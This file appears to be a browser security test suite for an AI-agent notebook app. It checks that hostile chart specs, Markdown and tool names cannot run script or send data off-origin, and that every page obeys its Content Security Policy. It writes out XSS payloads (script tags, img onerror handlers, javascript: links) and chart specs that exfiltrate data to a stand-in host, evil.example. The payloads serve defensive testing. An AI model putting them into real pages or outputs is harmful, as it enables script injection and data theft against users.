"""A hostile model in Chromium: nothing it writes may run script, send data out or act as the person.

The scripted model serves the payloads of issue 24 (items 1 and 3): chart specs that re-enable
vega-embed's actions menu through `usermeta.embedOptions`, load data from another host, colour a
mark with `url(http://…/?data=…)`, or make a tooltip load a data row's `image` field; plus hostile
Markdown/HTML in text and hostile tool names and arguments. They are shown on the notebook, the
trace and the compare pages, as the tool refuses them today and as a notebook stored before that
(seeded) holds them. Every request of the browser context is recorded (and anything leaving the
origin is refused and fails the test), a flag the payloads would set (`window.__pwned`) must stay
unset, and CSP violations (the page's `securitypolicyviolation` events and the reports the server
logs) are counted over a walk of every page: none may come from our own code.

Screenshots: test-artifacts/hostile-*.png (a chart drawn under the CSP at 1280x800 and 1920x1080).
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from browser_helpers import (  # noqa: F401  (fixtures)
    USERNAME,
    LiveApp,
    _browser_module,
    call_rule,
    live_app,
    new_context,
    page,
    scripted_model,
    shot,
    start_notebook,
    wait_until,
)

from runs.engine.testing import (
    Reply,
    Rule,
    Script,
    ScriptedServer,
    Timing,
)

pytestmark = pytest.mark.browser

AGENT = "function_calling"
EVIL = "http://evil.example"
ROWS = [
    {"city": "Lisbon", "revenue": 120, "image": f"{EVIL}/img.png?data=Lisbon-120"},
    {"city": "Porto", "revenue": 80, "image": f"{EVIL}/img.png?data=Porto-80"},
    {"city": "Braga", "revenue": 45, "image": f"{EVIL}/img.png?data=Braga-45"},
]
BAR = {
    "mark": {"type": "bar", "tooltip": {"content": "data"}},
    "encoding": {
        "x": {"field": "city", "type": "nominal"},
        "y": {"field": "revenue", "type": "quantitative"},
    },
    "data": {"values": ROWS},
}
# View Source's HTML, the renamed menu items and the editor URL a model would set.
SOURCE_HTML = "<script>opener.__pwned = 'view-source'; window.__pwned = 1</script>"
PAYLOADS: dict[str, dict[str, Any]] = {
    # item 1: the spec turns vega-embed's actions menu back on, with its own HTML and names
    "embed-options": {
        **BAR,
        "usermeta": {
            "embedOptions": {
                "actions": True,
                "defaultStyle": True,
                "i18n": {
                    "SOURCE_ACTION": "Export to Excel",
                    "EDITOR_ACTION": "Share with your team",
                },
                "sourceHeader": SOURCE_HTML,
                "sourceFooter": SOURCE_HTML,
                "editorUrl": f"{EVIL}/editor",
            }
        },
    },
    # item 3: data from another host
    "data-url": {**BAR, "data": {"url": f"{EVIL}/data.json?data=secret"}},
    # item 3: a colour fetched when the chart draws
    "url-colour": {
        **BAR,
        "mark": {"type": "bar", "color": f"url({EVIL}/?data=colour-secret)"},
    },
    # item 3: an image mark, an href channel and an `image` field the tooltip would load
    "image-tooltip-href": {
        **BAR,
        "encoding": {**BAR["encoding"], "href": {"field": "image"}},
    },
}
REFUSAL = "the chart uses what charts may not"
# A colour no string check can see: the expression builds `url(…)` while the chart draws.
EXPRESSION_COLOUR = {
    **BAR,
    "transform": [
        {
            "calculate": "'u' + 'rl(" + EVIL + "/?data=' + datum.city + ')'",
            "as": "paint",
        }
    ],
    "encoding": {
        **BAR["encoding"],
        "color": {"field": "paint", "type": "nominal", "scale": None},
    },
}

HOSTILE_TEXT = "\n".join(
    [
        "# Findings",
        "",
        "<script>window.__pwned = 'text-script'</script>",
        "",
        '<img src="x" onerror="window.__pwned = \'text-img\'">',
        "",
        f'<iframe src="{EVIL}/frame"></iframe> <style>body {{ background: url({EVIL}/css) }}</style>',
        "",
        f"![tracker]({EVIL}/pixel.png?data=text) [click](javascript:window.__pwned='link')",
        "",
        f'<a href="{EVIL}/" onclick="window.__pwned=\'a\'">raw link</a>',
    ]
)
HOSTILE_TOOL_NAME = "<img src=x onerror=\"window.__pwned='tool-name'\">"
HOSTILE_ARGS = {
    "sql": "SELECT 1 AS \"<img src=x onerror=window.__pwned='col'>\"",
    "note": f"<script>window.__pwned='args'</script><img src='{EVIL}/args.png'>",
}

_VIOLATIONS = """
document.addEventListener('securitypolicyviolation', (e) => window.__cspViolation({
  page: location.pathname, directive: e.effectiveDirective, blocked: e.blockedURI,
  source: e.sourceFile, line: e.lineNumber, sample: e.sample,
}), true);
"""


class Watch:
    """Every request, CSP violation and flag of one browser context."""

    def __init__(self, context: Any, app: LiveApp) -> None:
        self.origin = app.url
        self.requests: list[str] = []
        self.outside: list[str] = []
        self.violations: list[dict[str, Any]] = []
        context.expose_function("__cspViolation", lambda v: self.violations.append(v))
        context.add_init_script(_VIOLATIONS)
        context.route("**/*", self._route)

    def _route(self, route: Any) -> None:
        url = route.request.url
        self.requests.append(url)
        parts = urlsplit(url)
        if f"{parts.scheme}://{parts.netloc}" == self.origin:
            route.continue_()
        else:  # recorded, and never sent
            self.outside.append(url)
            route.abort()

    def check(self, *pages: Any) -> None:
        for p in pages:
            assert p.evaluate("() => window.__pwned") is None, "a payload ran script"
        assert self.outside == [], f"requests left the origin: {self.outside}"
        assert self.violations == [], f"CSP violations: {self.violations}"
        reports = [url for url in self.requests if url.endswith("/csp-report/")]
        assert reports == [], "the browser reported a CSP violation"


def csp_reports(app: LiveApp) -> list[str]:
    """The CSP reports the server logged (agentui.security)."""
    return re.findall(r"CSP violation #\d+: .*", app.log())


def watched(new_context: Callable[..., Any], app: LiveApp) -> tuple[Any, Watch]:
    context = new_context()
    watch = Watch(context, app)
    p = context.new_page()
    p.console = []  # type: ignore[attr-defined]
    p.on("pageerror", lambda exc: p.console.append(str(exc)))
    return p, watch


def hover_marks(card: Any) -> None:
    """Move over every bar, so a tooltip shows each row (and would load its image)."""
    paths = card.locator(".result-chart svg .mark-rect path")
    for i in range(paths.count()):
        paths.nth(i).hover(force=True)


def chart_call_script(spec: dict[str, Any]) -> Script:
    return Script(
        rules=[
            call_rule(0, "chart", "c1", {"spec": spec}, text="Here is the chart."),
            Rule(name="answer", reply=Reply(text="Done.")),
        ]
    )


def no_actions_menu(card: Any) -> None:
    """vega-embed's menu and anything a spec renamed in it are absent (the arguments may say them)."""
    assert card.locator(".vega-actions, details, summary").count() == 0
    result = card.locator(".tool-result")
    for name in ("Export to Excel", "Share with your team", "View Source"):
        assert result.get_by_text(name).count() == 0


@pytest.mark.parametrize("payload", sorted(PAYLOADS))
def test_a_hostile_chart_spec_is_refused_and_the_person_sees_why(
    payload: str,
    live_app: LiveApp,
    scripted_model: ScriptedServer,
    new_context: Callable[..., Any],
) -> None:
    page, watch = watched(new_context, live_app)
    scripted_model.load(chart_call_script(PAYLOADS[payload]))
    start_notebook(page, live_app, f"Chart it ({payload})", agent=AGENT, mode="auto")
    page.locator(".cell-answer").wait_for(timeout=30_000)
    card = page.locator(".tool-card[data-tool-id='c1']")
    result = card.locator(".tool-result")
    hover_marks(card)  # if it was drawn after all, its tooltips would load the images
    no_actions_menu(card)
    assert "is-error" in (result.get_attribute("class") or ""), result.inner_text()
    assert REFUSAL in result.inner_text()
    # The model was told the same, so it can draw a safe chart instead.
    told = [
        m["content"]
        for m in scripted_model.requests[-1].messages
        if m.get("role") == "tool"
    ]
    assert told and REFUSAL in told[-1]
    watch.check(page)


# --- a notebook stored before the tool refused them ----------------------------------------------


def seed_hostile_notebook(username: str, spec: dict[str, Any]) -> int:
    """A finished notebook whose chart call (id "h1") stored `spec`, as a tool that did not check
    it would have; its texts are hostile Markdown/HTML, its other calls have hostile names and
    arguments. Runs inside the app (LiveApp.shell)."""
    from browser_helpers import seed_long_trace

    from runs.models import Event

    task_id = seed_long_trace(username, steps=3, charts=1)
    for event in Event.objects.filter(task_id=task_id).order_by("seq"):
        payload = event.payload
        is_chart = payload.get("tool_name") == "chart"
        if is_chart:
            payload["tool_id"] = "h1"
            if event.type == "tool_call_result":
                payload["tool_output"]["raw_output"] = {
                    "spec": spec,
                    "rows": len(ROWS),
                    "data_from_call": None,
                }
        elif event.type in ("tool_call", "tool_call_result"):
            payload["tool_name"] = HOSTILE_TOOL_NAME
            payload["tool_kwargs"] = HOSTILE_ARGS
        elif event.type == "agent_output":
            payload["response"]["content"] = HOSTILE_TEXT
        elif event.type == "step_completed":
            payload["output"] = HOSTILE_TEXT
        else:
            continue
        event.payload = payload
        event.save(update_fields=["payload"])
    return task_id


def seeded(app: LiveApp, spec: dict[str, Any]) -> int:
    out = app.shell(
        "import json; from test_browser_hostile import seed_hostile_notebook; "
        f"print(seed_hostile_notebook({USERNAME!r}, json.loads({json.dumps(spec)!r})))"
    )
    return int(out.strip().splitlines()[-1])


def chart_cards(page: Any, tool_id: str) -> Any:
    return page.locator(f".tool-card[data-tool-id='{tool_id}']")


@pytest.mark.parametrize("payload", [*sorted(PAYLOADS), "expression-colour"])
def test_a_stored_hostile_chart_is_harmless_on_notebook_trace_and_compare(
    payload: str,
    live_app: LiveApp,
    new_context: Callable[..., Any],
    artifacts_dir: Path,
) -> None:
    task_id = seeded(live_app, PAYLOADS.get(payload, EXPRESSION_COLOUR))
    other = seeded(live_app, BAR)
    page, watch = watched(new_context, live_app)
    for url, ready in (
        (f"/tasks/{task_id}/", "#connection[data-state='open']"),
        (f"/traces/{task_id}/", "#trace[data-ready='true']"),
    ):
        page.goto(live_app.url + url)
        page.wait_for_selector(ready)
        card = chart_cards(page, "h1").first
        card.scroll_into_view_if_needed()
        chart = card.locator(".result-chart")
        chart.locator(
            "xpath=self::*[@data-state='drawn' or @data-state='failed']"
        ).wait_for()
        if chart.get_attribute("data-state") == "drawn":
            hover_marks(card)
            card.locator(".tool-result").click(position={"x": 5, "y": 5})
        no_actions_menu(card)
        tooltip = page.locator(".chart-tooltip")
        if tooltip.count():
            assert tooltip.locator("img").count() == 0
        # Hostile text and tool names show as text.
        assert page.locator("article img, article iframe, article script").count() == 0
        watch.check(page)
    page.goto(f"{live_app.url}/traces/compare/?a={task_id}&b={other}")
    page.wait_for_selector("#compare[data-ready='true']")
    assert page.locator("#compare img, #compare iframe, #compare script").count() == 0
    watch.check(page)
    assert csp_reports(live_app) == []


def test_a_stored_embed_options_spec_draws_without_them(
    live_app: LiveApp, new_context: Callable[..., Any], artifacts_dir: Path
) -> None:
    """The page's own defence: a spec with usermeta still draws, as the page's options say."""
    task_id = seeded(live_app, PAYLOADS["embed-options"])
    page, watch = watched(new_context, live_app)
    page.goto(f"{live_app.url}/traces/{task_id}/")
    page.wait_for_selector("#trace[data-ready='true']")
    card = chart_cards(page, "h1").first
    card.scroll_into_view_if_needed()
    card.locator(".result-chart[data-state='drawn']").wait_for(timeout=20_000)
    assert card.locator(".result-chart svg .mark-rect path").count() == len(ROWS)
    no_actions_menu(card)
    # The tooltip is text: the image field is its address, not a picture.
    card.locator(".result-chart svg .mark-rect path").first.hover(force=True)
    tooltip = page.locator(".chart-tooltip")
    tooltip.wait_for()
    assert "image: http://evil.example/img.png?data=Lisbon-120" in tooltip.inner_text()
    assert tooltip.locator("img").count() == 0
    shot(page, artifacts_dir, "hostile-stored-chart-tooltip")
    watch.check(page)


# --- every page under the policy ------------------------------------------------------------------

WALK_SQL = "SELECT name AS city, population FROM cities ORDER BY population DESC"
WALK_SPEC = {
    "title": "Population by city",
    "mark": {"type": "bar", "tooltip": True},
    "transform": [{"calculate": "datum.population / 1000", "as": "thousands"}],
    "encoding": {
        "x": {"field": "city", "type": "nominal", "sort": "-y"},
        "y": {"field": "thousands", "type": "quantitative", "title": "thousands"},
        "color": {
            "condition": {"test": "datum.thousands > 500", "value": "#d62728"},
            "value": "#4c78a8",
        },
    },
    "width": "container",
}
WALK_ANSWER = "## Population\n\nThe **largest** city leads.\n\n| a | b |\n| --- | ---: |\n| x | 1 |\n"


def walk_script() -> Script:
    """A query, a chart of it (with expressions) and a streamed Markdown answer."""
    return Script(
        rules=[
            call_rule(0, "sql_query", "q1", {"sql": WALK_SQL}),
            call_rule(
                1,
                "chart",
                "c1",
                {"spec": WALK_SPEC, "data_from_call": "q1"},
                text="Charting it.",
            ),
            Rule(
                name="answer",
                reply=Reply(text=WALK_ANSWER),
                timing=Timing(token_delay_s=0.03),
            ),
        ]
    )


def approve_next(page: Any, n: int) -> None:
    """Wait until step `n` (0-based) waits for approval, then approve it."""
    cell = page.locator("article.cell-step").nth(n)
    page.wait_for_function(
        f"() => document.querySelectorAll('article.cell-step')[{n}]?.classList.contains('is-waiting')"
    )
    approve = cell.get_by_role("button", name="Approve and run")
    page.wait_for_function(
        f"() => !document.querySelectorAll('article.cell-step')[{n}].querySelector('[data-action=approve]').disabled"
    )
    approve.click()


HEADERS = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "same-origin",
    "cross-origin-opener-policy": "same-origin",
    "x-frame-options": "DENY",
}


def check_policy(url: str, headers: dict[str, str], origin: str) -> None:
    policy = headers.get("content-security-policy", "")
    directives = {
        part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()
    }
    assert directives.get("script-src", [None])[0] == "'self'", (url, policy)
    # and this response's nonce, when its page has a script tag
    assert all(s.startswith("'nonce-") for s in directives["script-src"][1:]), policy
    assert "unsafe" not in policy, (url, policy)
    assert directives["style-src"] == ["'self'"], (url, policy)
    assert directives["connect-src"] == ["'self'", origin.replace("http", "ws", 1)]
    assert directives["img-src"] == ["'self'", "data:", "blob:"]
    for name in ("object-src", "frame-ancestors", "base-uri"):
        assert directives[name] == ["'none'"], (url, name, policy)
    assert directives["form-action"] == ["'self'"]
    for name, value in HEADERS.items():
        assert headers.get(name) == value, (url, name, headers.get(name))


def test_every_page_runs_under_the_policy_without_a_violation(
    live_app: LiveApp,
    scripted_model: ScriptedServer,
    new_context: Callable[..., Any],
    artifacts_dir: Path,
) -> None:
    page, watch = watched(new_context, live_app)
    documents: dict[str, dict[str, str]] = {}
    page.on(
        "response",
        lambda r: (
            documents.setdefault(r.url, r.all_headers())
            if r.request.resource_type == "document"
            else None
        ),
    )
    page.goto(f"{live_app.url}/")
    page.get_by_role("heading").first.wait_for()

    # A notebook in step mode: waiting, streaming, finished, with a chart drawn under the policy.
    scripted_model.load(walk_script())
    task_id = start_notebook(
        page, live_app, "Population by city, charted", agent=AGENT, mode="step"
    )
    approve_next(page, 0)
    approve_next(page, 1)
    approve_next(page, 2)
    page.locator("article.cell-step[data-status='running'] .md-body").first.wait_for()
    page.locator(".cell-answer").wait_for(timeout=30_000)
    card = page.locator(".tool-card[data-tool-id='c1']")
    card.locator(".result-chart[data-state='drawn']").wait_for(timeout=20_000)
    bars = card.locator(".result-chart svg .mark-rect path")
    assert bars.count() > 5
    bars.first.hover(force=True)
    page.locator(".chart-tooltip:not([hidden])").wait_for()
    assert "city:" in page.locator(".chart-tooltip").inner_text()
    fills = set(bars.evaluate_all("els => els.map(e => e.getAttribute('fill'))"))
    assert fills == {"#d62728", "#4c78a8"}, fills  # the condition's expression ran
    card.scroll_into_view_if_needed()
    shot(page, artifacts_dir, "hostile-csp-chart-1280x800")
    page.set_viewport_size({"width": 1920, "height": 1080})
    card.scroll_into_view_if_needed()
    shot(page, artifacts_dir, "hostile-csp-chart-1920x1080")
    page.set_viewport_size({"width": 1280, "height": 800})
    with page.expect_download() as png:
        card.get_by_role("button", name="PNG").click()
    assert Path(png.value.path()).read_bytes()[:4] == b"\x89PNG"

    other = seeded(live_app, BAR)
    walk = [
        ("/traces/", "#trace-list, table, main"),
        (f"/traces/{task_id}/", "#trace[data-ready='true']"),
        (f"/traces/compare/?a={task_id}&b={other}", "#compare[data-ready='true']"),
        ("/settings/tokens/", "main"),
        ("/data/", "main"),
        ("/inbox/", "#inbox-empty:not([hidden])"),
        ("/api/v1/docs", ".swagger-ui .info"),
    ]
    for path, ready in walk:
        page.goto(live_app.url + path)
        page.locator(ready).first.wait_for()
        if path == f"/traces/{task_id}/":
            trace_card = page.locator("#cells .tool-card[data-tool-id='c1']")
            trace_card.scroll_into_view_if_needed()
            trace_card.locator(".result-chart[data-state='drawn']").wait_for()
        if path == "/settings/tokens/":
            page.get_by_label("Name").fill("walk")
            page.get_by_role("button", name="Create token").click()
            page.locator("#new-token").wait_for()
    shot(page, artifacts_dir, "hostile-csp-api-docs")
    # Another person's login link asks before switching (a page with a form of its own).
    live_app.shell(
        "from django.contrib.auth import get_user_model; "
        "get_user_model().objects.get_or_create(username='walker')"
    )
    page.goto(live_app.call("login_link", "walker", "--base-url", live_app.url).strip())
    page.get_by_role("heading", name="Switch account?").wait_for()
    page.get_by_role("link", name=f"Stay signed in as {USERNAME}").click()
    page.wait_for_url(f"{live_app.url}/")
    page.get_by_role("button", name="Log out").click()
    page.wait_for_url("**/login/**")
    page.get_by_label("Username").wait_for()

    for url, headers in documents.items():
        check_policy(url, headers, live_app.url)
    visited = {urlsplit(url).path for url in documents}
    assert {
        "/",
        f"/tasks/{task_id}/",
        "/traces/",
        "/data/",
        "/api/v1/docs",
        "/login/",
    } <= visited
    assert any(path.startswith("/login/ey") for path in visited), visited
    watch.check(page)
    assert not page.console, page.console
    assert csp_reports(live_app) == []


def test_a_violation_in_the_page_is_reported_to_the_server(
    live_app: LiveApp, new_context: Callable[..., Any]
) -> None:
    """The report path works from a real browser (so the walk's count of 0 means something)."""
    page, watch = watched(new_context, live_app)
    page.goto(f"{live_app.url}/traces/")
    before = len(csp_reports(live_app))
    with page.expect_event("requestfinished", lambda r: r.url.endswith("/csp-report/")):
        page.evaluate(
            "() => { const img = document.createElement('img'); img.src = 'http://evil.example/r.png'; document.body.append(img); }"
        )
    wait_until(
        lambda: len(csp_reports(live_app)) > before, message="the report in the log"
    )
    assert "http://evil.example/r.png" in csp_reports(live_app)[-1]
    assert [v["blocked"] for v in watch.violations] == ["http://evil.example/r.png"]
    assert watch.outside == []
